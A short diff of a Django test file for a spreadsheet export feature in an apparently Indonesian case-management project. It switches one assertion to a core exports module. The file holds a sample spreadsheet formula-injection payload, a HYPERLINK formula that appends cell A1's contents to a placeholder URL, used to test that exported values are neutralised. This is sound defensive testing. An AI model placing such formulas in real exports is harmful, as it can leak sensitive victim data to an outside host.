@@ -24,6 +24,7 @@ from layak.cases.tests.factories import (
     victim_data,
     violence,
 )
+from layak.core import exports as core_exports
 
 DANGEROUS = '=HYPERLINK("http://example.invalid/?"&A1,"klik")'
 
@@ -170,7 +171,7 @@ class SimfoniExportTests(TestCase):
             (Decimal("-9.5"), Decimal("-9.5")),
             (True, "ya"),
         ):
-            self.assertEqual(exports.neutralise(value), expected, repr(value))
+            self.assertEqual(core_exports.neutralise(value), expected, repr(value))
 
     def test_the_documented_layout_matches_the_columns(self) -> None:
         doc = (Path(settings.BASE_DIR) / "docs" / "simfoni-export.md").read_text(encoding="utf-8")
